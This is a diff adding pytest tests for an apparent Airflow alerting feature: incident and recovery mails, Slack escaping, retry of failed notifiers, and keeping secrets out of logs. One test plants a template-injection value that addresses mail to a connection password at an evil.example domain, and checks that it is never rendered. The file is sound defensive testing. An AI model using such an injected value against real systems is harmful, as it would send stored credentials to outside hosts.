@@ -1,0 +1,171 @@
+"""One message when something fails, none for what is known, one when it is over; whatever else goes wrong meanwhile."""
+
+from __future__ import annotations
+
+import json
+import logging
+import os
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from intacct_asana.errors import Misconfigured, Refused, TryLater, UnsafePlan
+
+from tests.alerts.alerts_world import MAIL, SLACK, Alarmed
+from tests.alerts.conftest import Mailbox, smtp
+from tests.conftest import free_port
+
+MAILED = f"{{on_failure: [{MAIL}]}}"
+Make = Callable[..., Alarmed]
+
+
+@pytest.fixture
+def mailed(alarmed: Make, mailbox: Mailbox) -> Alarmed:
+    return alarmed(MAILED)
+
+
+def test_one_mail_when_it_fails_and_one_when_it_is_over(mailed: Alarmed, mailbox: Mailbox) -> None:
+    for run in ("r1", "r2", "r3"):
+        mailed.fails(TryLater("Asana does not answer"), run_id=run)
+        mailed.run_fails(run_id=run)
+    assert mailbox.subjects == ["[small] small_bill_sync failed at apply_plan"]
+    for said in ("Asana does not answer", "The next run tries again by itself", "/runs/r1/tasks/apply_plan", "/runs/r1\n"):
+        assert said in mailbox.body()
+    [one] = mailed.open_incidents()
+    assert (one.times, one.incident_id in mailbox.body()) == (3, True)
+    mailed.succeeds(step="plan_tasks")
+    mailed.succeeds(params={"dry_run": True})
+    assert len(mailbox.subjects) == 1
+    mailed.succeeds(run_id="r4")
+    assert mailbox.subjects[1:] == ["[small] over: small_bill_sync failed at apply_plan"]
+    assert "apply_plan succeeded in run r4" in mailbox.body()
+    assert mailed.open_incidents() == []
+    mailed.succeeds(run_id="r5")
+    mailed.fails(TryLater("again"), run_id="r6")
+    assert len(mailbox.subjects) == 3, "what is back is told again"
+
+
+def test_another_cause_is_another_incident(mailed: Alarmed, mailbox: Mailbox) -> None:
+    mailed.fails(TryLater("x"))
+    mailed.fails(UnsafePlan("too many creates: <b>900</b> & more"), run_id="r2")
+    assert len(mailbox.subjects) == 2
+    assert "UnsafePlan: too many creates: &lt;b&gt;900&lt;/b&gt; &amp; more" in mailbox.body()
+    mailed.succeeds()
+    assert [one.startswith("[small] over: ") for one in mailbox.subjects] == [False, False, True]
+    assert mailbox.subjects[-1].endswith("and 1 more")
+
+
+def test_a_killed_task_is_told_by_the_dag_processor(mailed: Alarmed, mailbox: Mailbox) -> None:
+    mailed.run_fails()
+    mailed.run_fails(run_id="r2")
+    assert len(mailbox.subjects) == 1
+    assert "ended without a word" in mailbox.body()
+    mailed.succeeds()
+    assert mailbox.subjects[-1].startswith("[small] over: ")
+
+
+def test_the_dag_processor_and_the_task_tell_once_whoever_is_first(mailed: Alarmed, mailbox: Mailbox) -> None:
+    mailed.fails(TryLater("x"))
+    mailed.run_fails()
+    mailed.run_fails(run_id="r2")
+    assert len(mailbox.subjects) == 2
+    mailed.fails(TryLater("x"), run_id="r2")
+    mailed.run_fails(run_id="r3")
+    mailed.fails(Refused("y"), run_id="r3")
+    assert len(mailbox.subjects) == 3, "the task of r3 explains what was told already"
+    assert [one.seen.error for one in mailed.open_incidents()] == ["TryLater", "Refused"]
+    mailed.succeeds()
+    assert mailed.open_incidents() == []
+
+
+def test_a_notifier_that_is_down_is_told_of_later_and_the_others_at_once(
+    alarmed: Make, mailbox: Mailbox, slack: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    world = alarmed(f"{{on_failure: [{MAIL}, {SLACK}]}}")
+    works = json.loads(os.environ["AIRFLOW_CONN_SMTP_DEFAULT"])
+    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", smtp(free_port()))
+    with caplog.at_level(logging.ERROR):
+        world.fails(Misconfigured("no such field"))
+    assert len(slack.said) == 1
+    assert "did not leave by smtp, and the next run tells it: the mail was not sent (ConnectionRefusedError" in caplog.text
+    world.watch()
+    assert mailbox.subjects == []
+    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", json.dumps(works))
+    world.watch()
+    world.watch()
+    assert len(mailbox.subjects) == 1
+    assert len(slack.said) == 1
+
+
+def test_what_was_over_before_anybody_heard_is_told_as_that(
+    alarmed: Make, mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    world = alarmed(MAILED)
+    works = os.environ["AIRFLOW_CONN_SMTP_DEFAULT"]
+    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", smtp(free_port()))
+    world.fails(TryLater("no answer at noon"))
+    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", works)
+    world.succeeds()
+    assert mailbox.subjects == ["[small] over: small_bill_sync failed at apply_plan"]
+    assert "no answer at noon" in mailbox.body()
+
+
+def test_slack_gets_text_and_no_markup_and_its_secret_is_told_nowhere(
+    alarmed: Make, slack: Any, caplog: pytest.LogCaptureFixture
+) -> None:
+    world = alarmed(f"{{on_failure: [{SLACK}]}}")
+    slack.status = 404
+    world.fails(Refused("bill <!channel> & co"))
+    [(path, text)] = slack.said
+    assert path == "/services/T1/B2/s3cret"
+    assert "bill &lt;!channel&gt; &amp; co" in text
+    assert "Slack answered 404; make the webhook anew" in caplog.text
+    assert "s3cret" not in caplog.text
+    slack.status = 200
+    world.watch()
+    assert len(slack.said) == 2
+
+
+def test_a_connection_that_is_missing_is_one_sentence(alarmed: Make, caplog: pytest.LogCaptureFixture) -> None:
+    alarmed("{on_failure: [{kind: slack, connection: no_slack}]}").fails(Refused("x"))
+    assert "did not leave by slack, and the next run tells it: Connection no_slack does not exist" in caplog.text
+
+
+def test_without_its_store_an_alert_leaves_all_the_same(
+    mailed: Alarmed, mailbox: Mailbox, caplog: pytest.LogCaptureFixture
+) -> None:
+    def away() -> Any:
+        raise TryLater("The store could not be used")
+
+    mailed.store.incidents = away  # type: ignore[method-assign]
+    mailed.fails(TryLater("x"))
+    mailed.run_fails()
+    assert len(mailbox.subjects) == 2
+    assert "The store does not remember this alert" in caplog.text
+    mailed.succeeds()
+
+
+def test_an_error_of_others_is_told_by_its_name_alone(mailed: Alarmed, mailbox: Mailbox) -> None:
+    mailed.fails(KeyError("postgresql://store:hunter2@db"))
+    assert "KeyError (the log says more)" in mailbox.body()
+    assert "hunter2" not in mailbox.body()
+
+
+def test_what_a_flow_file_says_is_never_rendered(alarmed: Make, mailbox: Mailbox, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Not even an address that got past the check of the file, nor an error that quotes a template."""
+    monkeypatch.setenv("AIRFLOW_CONN_INTACCT_DEFAULT", json.dumps({"conn_type": "intacct", "password": "hunter2"}))
+    world = alarmed(MAILED)
+    [notifier] = world.flow.alerts.on_failure
+    word = "{{conn.intacct_default.password}}"
+    sly = notifier.model_copy(update={"to": (f"{word}@evil.example",)})
+    world.flow = world.flow.model_copy(update={"alerts": world.flow.alerts.model_copy(update={"on_failure": (sly,)})})
+    world.fails(Refused(word))
+    [mail] = mailbox.mails
+    assert "hunter2" not in str(mail)
+    assert word in mailbox.body()
+
+
+def test_a_flow_without_notifiers_says_it_in_the_log(alarmed: Make, caplog: pytest.LogCaptureFixture) -> None:
+    alarmed("{}").fails(UnsafePlan("too many creates"))
+    assert "by the log alone" in caplog.text
+    assert "too many creates" in caplog.text
